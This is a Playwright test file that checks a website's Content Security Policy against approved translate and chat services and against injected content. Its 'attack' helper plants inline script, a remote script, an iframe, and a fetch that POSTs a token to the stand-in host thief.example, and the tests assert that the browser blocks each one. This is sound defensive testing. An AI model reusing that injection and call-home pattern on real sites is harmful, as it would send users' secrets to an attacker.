import { expect, type Page, test } from '@playwright/test';
import { openDrawn } from '../people/drawn-page.js';

/** The two outside services that playwright.config.ts configures; they answer only here. */
const SCRIPT = 'https://translate.example/element.js';
const CHAT = 'https://chat.example/desk';

/** What the browser refused on the page, as `directive address`. */
const violationsOn = async (page: Page): Promise<() => Promise<string[]>> => {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { refusedByPolicy: seen });
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { refusedByPolicy: string[] }).refusedByPolicy);
};

/** Tries what a planted script would: more script, a frame, a call home. */
const attack = (page: Page, scriptHost: string): Promise<void> =>
  page.evaluate(async (host) => {
    const add = (tag: string, properties: object) =>
      document.body.append(Object.assign(document.createElement(tag), properties));
    add('script', { textContent: 'window.planted = true' });
    add('script', { src: `${host}/planted.js` });
    add('iframe', { src: 'https://thief.example/frame' });
    await fetch('https://thief.example/home', { method: 'POST', body: 'token' }).catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 0));
  }, scriptHost);

test('with both services configured and in use, the policy refuses nothing of ours', async ({ page }) => {
  const violations = await violationsOn(page);
  await page.route(SCRIPT, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.translated = true' }),
  );
  await page.route(CHAT, (route) => route.fulfill({ contentType: 'text/html', body: '<p>Chat</p>' }));
  await openDrawn(page, '/');
  await page.getByRole('contentinfo').getByRole('button', { name: 'Translate this page' }).click();
  await expect.poll(() => page.evaluate(() => 'translated' in window)).toBe(true);
  await page.getByRole('button', { name: 'Live chat' }).click();
  await expect(page.frameLocator('iframe[title="Live chat"]').getByText('Chat')).toBeVisible();
  for (const path of ['/contact', '/signin', '/investment-plans']) await page.goto(path, { waitUntil: 'networkidle' });
  expect(await violations()).toEqual([]);
});

test('it refuses inline script and every host that was not configured', async ({ page }) => {
  const violations = await violationsOn(page);
  await page.goto('/', { waitUntil: 'networkidle' });
  await attack(page, 'https://thief.example');
  await expect
    .poll(async () => (await violations()).sort())
    .toEqual([
      'connect-src https://thief.example/home',
      'frame-src https://thief.example',
      'script-src-elem https://thief.example/planted.js',
      'script-src-elem inline',
    ]);
  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
});

test('the console takes no outside service at all', async ({ page }) => {
  const violations = await violationsOn(page);
  await page.goto('/admin/', { waitUntil: 'networkidle' });
  expect(await violations()).toEqual([]);
  await attack(page, 'https://translate.example');
  await expect.poll(violations).toContain('script-src-elem https://translate.example/planted.js');
});
